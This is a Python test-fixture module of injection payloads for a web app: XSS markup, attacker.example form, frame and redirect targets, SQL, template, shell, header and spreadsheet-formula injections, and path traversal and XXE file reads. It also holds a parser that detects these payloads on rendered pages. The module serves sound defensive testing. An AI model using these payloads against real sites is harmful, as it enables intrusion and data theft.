"""Strings that attack whatever prints or takes them, each with a mark by which it is known when it got through.

``fhx7`` stands in every tag, attribute, header, line and property that an attack would make: it must never be one.
"""

from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

MARK = "fhx7"

MARKUP = {
    "script": "<script>window.fhx7=1;alert('fhx7')</script>",
    "broken script": "<scr<script>ipt>window.fhx7=1</scr</script>ipt>",
    "image": "<img src=x fhx7=1 onerror=\"window.fhx7=1;alert('fhx7')\">",
    "svg": '<svg onload="window.fhx7=1"><fhx7/><animate onbegin="alert(1)" attributeName="x"/></svg>',
    "quotes": '"><fhx7 onmouseover="window.fhx7=1" style="position:fixed;inset:0">',
    "single quotes": "' onfocus='window.fhx7=1' autofocus='' fhx7='",
    "backtick": "`><fhx7 onclick=`window.fhx7=1`>",
    "style": "<style>body{background:rgb(1,2,3)!important}fhx7{}</style>",
    "form": '<form action="http://attacker.example/fhx7"><input name="fhx7" value="x"></form>',
    "frame": '<iframe src="http://attacker.example/fhx7" srcdoc="<script>top.fhx7=1</script>"></iframe>',
    "base": '<base href="http://attacker.example/fhx7/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://attacker.example/fhx7">',
    "link": '<link rel="stylesheet" href="http://attacker.example/fhx7.css">',
    "textarea end": "</textarea></title></style></script><fhx7>",
    "comment end": "--><fhx7><!--",
    "cdata": "]]><fhx7 xmlns='urn:fhx7'/><![CDATA[",
    "entity": "&lt;fhx7&gt; &#60;fhx7&#62; &amp;lt;fhx7&amp;gt;",
    "doctype": '<!DOCTYPE x [<!ENTITY fhx7 SYSTEM "file:///etc/passwd">]>&fhx7;',
    "markdown": "[fhx7](javascript:window.fhx7=1) ![fhx7](http://attacker.example/fhx7.png)",
    "half a surrogate's tag": "<\u0130mg src=x onerror=window.fhx7=1>",
}
ADDRESSES = {
    "javascript address": "javascript:window.fhx7=1//http://example.org/",
    "javascript in disguise": "jAvA\tscript:window.fhx7=1",
    "data address": "data:text/html,<script>window.fhx7=1</script>",
    "protocol only": "//attacker.example/fhx7",
    "backslashes": "/\\attacker.example/fhx7",
    "user in front": "http://localhost@attacker.example/fhx7",
    "traversal": "../../../../../../etc/passwd",
    "coded traversal": "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "windows traversal": "..\\..\\..\\windows\\win.ini",
    "file address": "file:///etc/passwd",
}
CODE = {
    "template": "{{7*7*191}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}${7*7*191}",
    "sql": "'; DROP TABLE articles; --",
    "sql or": "' OR '1'='1' UNION SELECT name, sql FROM sqlite_master --",
    "fts": '"a" NEAR/2 title:* OR (((( ^b',
    "shell": "$(touch /tmp/fhx7) `touch /tmp/fhx7` | touch /tmp/fhx7",
    "format": "%s%n%x{0.__class__}{request.app.state}",
    "header": "x\r\nX-fhx7: 1\r\nSet-Cookie: fhx7=1\r\n\r\n<fhx7>",
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nX-FHX7:1",
    "formula": '=HYPERLINK("http://attacker.example/fhx7","x")',
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
}
ODD = {
    "nul": "fhx7\x00fhx7",
    "right to left": "\u202egnp.exe\u2066fhx7\u2069\u202c",
    "zero width": "fh\u200b\u200d\ufeffx7",
    "combining": "f" + "\u0301" * 200,
    "private": "\ue000\ufdd0\U0010ffff",
    "long": "fhx7 " * 800,
    "one long word": "a" * 3_000,
    "huge number": "9" * 400,
    "minus": "-1",
    "not a number": "NaN",
    "infinity": "1e999",
    "empty": "",
    "blank": " \t\n ",
    "percent": "%00%ff%zz%u0041",
    "deep": "(" * 1_500,
}
ATTACKS = {**MARKUP, **ADDRESSES, **CODE, **ODD}

STORED = {**MARKUP, **CODE, **{name: ODD[name] for name in ("right to left", "zero width", "combining")}}


def attacked_articles() -> Iterator[dict[str, Any]]:
    """One article for each attack that a page can hold, with the attack in every field it has."""
    for number, (name, attack) in enumerate([*STORED.items(), *ADDRESSES.items()]):
        yield {
            "source": f"attack/{number:02}/{attack}"[:300],
            "outlet": f"Outlet {attack}"[:200],
            "title": f"Harbour of Tarn closed after collision {attack}"[:400],
            "authors": [f"Una {attack}"[:200], "Odo Bell"],
            "published": f"2033-05-{number % 4 + 1:02}",
            "url": ADDRESSES.get(name, "http://example.org/" + "".join(filter(str.isalnum, name))),
            "section": attack[:100],
            "text": (
                f"The harbour of Tarn was closed on Monday after two ships collided, and {number + 3} sailors were"
                f" hurt. {attack}\n\n“We saw {attack} before they met,” said Una Mar, the harbour master of Tarn."
                f"\n\nThe Ports Minister, Jon {attack} Vale, demanded that night crossings stop."
            ),
        }


class Trespass(HTMLParser):
    """Looks at a page as a browser does, and lists what an attack has made of it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.links: list[str] = []
        self.forms: list[tuple[dict[str, str], list[dict[str, str]]]] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attributes}
        self._refuse(MARK in tag, f"tag {tag}")
        self._refuse(tag in ("iframe", "object", "embed", "base", "applet", "frame"), f"tag {tag}")
        self._refuse(tag == "style", "a style of the page's own")
        self._refuse(
            tag == "script" and not given.get("src", "").startswith("/static/"), "a script of the page's own"
        )
        self._refuse(tag == "meta" and "http-equiv" in given, "a meta that steers")
        self._refuse(tag == "link" and not given.get("href", "").startswith("/"), f"a link to {given.get('href')}")
        for name, value in given.items():
            self._refuse(MARK in name, f"attribute {name}")
            self._refuse(name.startswith("on") and name != "one", f"handler {name}")
            self._refuse(name in ("style", "srcdoc", "formaction", "background", "ping"), f"attribute {name}")
            if name in ("href", "src", "action", "xlink:href", "poster", "data"):
                self._look_at_address(tag, name, value)
        if tag == "form":
            self.forms.append((given, []))
        elif tag in ("input", "textarea", "select", "button") and self.forms and given.get("name"):
            self.forms[-1][1].append({"tag": tag, **given})

    def _look_at_address(self, tag: str, name: str, value: str) -> None:
        plain = "".join(sign for sign in value if sign > " ").lower()
        self._refuse(plain.startswith(("javascript:", "vbscript:")), f"{tag} {name}={value}")
        self._refuse(plain.startswith("data:") and tag != "img", f"{tag} {name}={value}")
        self._refuse(
            tag in ("img", "script", "form") and not is_ours(value) and plain[:5] != "data:", f"{tag} {value}"
        )
        if tag == "a" and is_ours(value):
            self.links.append(value)

    def _refuse(self, wrong: bool, what: str) -> None:
        if wrong:
            self.found.append(what)


def is_ours(address: str) -> bool:
    """True for an address that leads nowhere else."""
    return not address.startswith(("//", "/\\", "\\")) and "://" not in address.partition("?")[0].partition("#")[0]


def trespass(page: str) -> Trespass:
    """What attacks have made of a page, and where it leads."""
    seen = Trespass()
    seen.feed(page)
    seen.close()
    return seen
